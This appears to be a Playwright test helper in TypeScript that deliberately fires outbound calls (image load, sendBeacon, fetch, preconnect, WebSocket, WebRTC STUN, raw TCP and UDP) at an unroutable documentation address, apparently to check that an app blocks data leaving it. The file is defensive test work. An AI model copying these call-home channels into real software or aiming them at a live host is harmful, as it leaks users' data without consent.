import dgram from 'node:dgram'
import net from 'node:net'
import type { Page } from '@playwright/test'

/** An address for documentation (RFC 5737): nobody is there. */
export const nobody = '203.0.113.7'

/** Everything that a hijacked window could try to call home with. */
export async function callFromWindow(page: Page): Promise<void> {
  await page.evaluate(async (address) => {
    new Image().src = `https://${address}/picture`
    navigator.sendBeacon(`https://${address}/beacon`, 'words')
    await fetch(`https://${address}/fetch`).catch(() => undefined)
    const link = document.createElement('link')
    Object.assign(link, { rel: 'preconnect', href: `https://${address}` })
    document.head.append(link)
    const socket = new WebSocket(`wss://${address}/socket`)
    await new Promise((resolve) => socket.addEventListener('error', resolve))
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}:3478` }] })
    peer.createDataChannel('words')
    await peer.setLocalDescription(await peer.createOffer())
    while (peer.iceGatheringState !== 'complete')
      await new Promise((resolve) =>
        peer.addEventListener('icegatheringstatechange', resolve, { once: true }),
      )
  }, nobody)
}

/** The planted defect: main sets off a connection and a datagram. */
export async function callFromMain(): Promise<void> {
  const socket = net.connect(443, nobody)
  socket.on('error', () => undefined)
  const datagrams = dgram.createSocket('udp4')
  await new Promise((resolve) => datagrams.send('words', 53, nobody, resolve))
  datagrams.close()
  socket.destroy()
}
